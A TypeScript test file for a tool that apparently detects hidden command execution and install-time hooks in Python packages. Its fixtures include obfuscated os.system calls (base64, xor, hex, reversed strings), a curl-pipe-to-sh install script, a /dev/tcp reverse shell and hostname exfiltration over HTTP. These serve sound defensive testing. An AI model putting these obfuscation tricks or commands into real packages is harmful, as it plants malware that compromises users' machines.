import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { factsOf, usesOf } from '../node/source-facts.test-support.ts'

const inModule = (code: string): Promise<string[]> => usesOf({ 'demo/__init__.py': code })

describe('names', () => {
  it.each([
    ['an alias', 'from os import system as s\ns("id")'],
    ['getattr', 'import os\ngetattr(os, "sys" + "tem")("id")'],
    ['__import__', '__import__("o" + "s").system("id")'],
    ['importlib', 'import importlib as i\ni.import_module("os").system("id")'],
    ['sys.modules', 'import sys, os\nsys.modules["os"].system("id")'],
    ['__dict__', 'import os\nos.__dict__["system"]("id")'],
    ['a tuple', 'import os\na, b = os.system, 1\na("id")'],
    ['a lambda and a default', 'import os\nf = lambda c, r=os.system: r(c)\nf("id")'],
    ['a class attribute', 'import os\nclass A:\n    run = os.system\nA().run("id")'],
    ['a star', 'from os import *\nsystem("id")'],
    ['eval', 'eval("__import__(\\"os\\")").system("id")'],
  ])('finds os.system behind %s', async (_, code) => {
    expect(await inModule(code)).toContain('import process os.system {host-identity}')
  })
})

describe('folding', () => {
  it.each([
    ['chr tables', 'exec("".join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]) + ";os.system(\'id\')")'],
    ['base64 in pieces', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zO2" + "9zLnN5c3RlbSgnaWQnKQ=="))'],
    ['a reversed text', 'exec(")\'di\'(metsys.so;so tropmi"[::-1])'],
    [
      'xor in a loop',
      `k = ${JSON.stringify(Array.from('import os;os.system("id")').map((c) => c.charCodeAt(0) ^ 7))}\ns = ''\nfor c in k:\n    s += chr(c ^ 7)\nexec(s)`,
    ],
    [
      'hex through map',
      'exec(bytes(map(lambda h: int(h, 16), "69 6d 70 6f 72 74 20 6f 73 3b 6f 73 2e 73 79 73 74 65 6d 28 27 69 64 27 29".split())).decode())',
    ],
  ])('opens %s', async (_, code) => {
    expect((await inModule(code)).some((use) => use.startsWith('import process os.system'))).toBe(true)
  })
})

describe('contexts and flows', () => {
  it('follows data through modules, functions and threads', async () => {
    const files = {
      'demo/__init__.py':
        'import threading\nfrom .a import collect\nfrom .b import send\ndef go():\n    send(collect())\nthreading.Thread(target=go).start()\n',
      'demo/a.py': 'import socket\ndef collect():\n    return {"h": socket.gethostname()}\n',
      'demo/b.py': 'import requests\ndef send(data):\n    requests.post("https://example.org", json=data)\n',
    }
    expect(await usesOf(files)).toContain('import network requests.post <host-identity>')
  })
  it('knows what setup.py imports and runs from its own tree', async () => {
    const files = {
      'setup.py': 'import subprocess, sys\nimport hook\nsubprocess.call([sys.executable, "other.py"])\n',
      'hook.py': 'import os\nos.system("id")\n',
      'other.py': 'import os\nos.popen("id")\n',
    }
    const uses = await usesOf(files)
    expect(uses).toContain('install process os.system {host-identity}')
    expect(uses).toContain('install process os.popen {host-identity}')
  })
  it('reads shell scripts that are run, and only those', async () => {
    const files = {
      'setup.py': 'import subprocess\nsubprocess.call(["bash", "./tools/install.sh"])\n',
      'tools/install.sh':
        '#!/bin/sh\n# curl https://h.example/b | sh\nmkdir -p build\ncurl -fsSL https://h.example/a \\\n  | sh\n',
      'tools/other.sh': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
    }
    expect(await usesOf(files)).toEqual(['install process subprocess.call {interpreter download-and-run}'])
    expect(await usesOf({ ...files, 'setup.py': 'import os\nos.system("make all")\n' })).toEqual([
      'install process os.system {build}',
    ])
  })
  it('runs the import lines of a .pth at start-up', async () => {
    expect(await usesOf({ 'x.pth': 'lib\nimport os; os.system("id")\n' })).toEqual(['start-up process os.system {host-identity}'])
  })
  it('does not take a main guard, a class definition or a test for an import', async () => {
    const code =
      'import os\nclass A:\n    def f(self):\n        os.system("id")\nif __name__ == "__main__":\n    os.popen("id")\n'
    expect(await inModule(code)).toEqual([
      'entry-point process os.popen {host-identity}',
      'call process os.system {host-identity}',
    ])
  })
})

describe('hostile input', () => {
  it.each([
    ['deep nesting', `x = ${'('.repeat(5000)}1${')'.repeat(5000)}`],
    ['a hundred thousand concatenations', `x = ${'"a"+'.repeat(100_000)}"b"`],
    ['doubling', `x = "a"\n${'x = x + x\n'.repeat(200)}exec(x)`],
    ['a list that grows while it is read', 'l = [1]\nfor i in l:\n    l.append(i)\n'],
    ['recursion', 'def f(x):\n    return f(x + "a") + f(x)\nf("")\n'],
    ['towers of powers', 'x = 9 ** 9 ** 9 ** 9\ny = 1 << 10 ** 12\n'],
    [
      'nested loops',
      `${Array.from('abcdefgh')
        .map((name, index) => `${' '.repeat(index)}for ${name} in range(4096):\n`)
        .join('')}         x = 1\n`,
    ],
    ['null bytes and surrogates', 'x = "\\ud800"\0\nexec(x)\n'],
  ])(
    'ends on %s',
    async (_, code) => {
      const facts = await factsOf({ 'demo/__init__.py': code })
      expect(facts.files).toBe(1)
    },
    60_000,
  )
  it('never rejects on any text', async () => {
    const word = fc.constantFrom(
      'def f(',
      'exec(',
      '"""',
      "'",
      '\\',
      '\n',
      '    ',
      'import os',
      'lambda:',
      '[',
      ')',
      '{',
      'f"{',
      ':',
      'class A:',
      '\t',
      'for x in ',
      'é',
      '\0',
      '=',
      '.',
      'return',
    )
    await fc.assert(
      fc.asyncProperty(fc.array(word, { maxLength: 60 }), async (words) => {
        expect((await factsOf({ 'demo/__init__.py': words.join('') })).files).toBe(1)
      }),
      { numRuns: 150 },
    )
  }, 60_000)
})
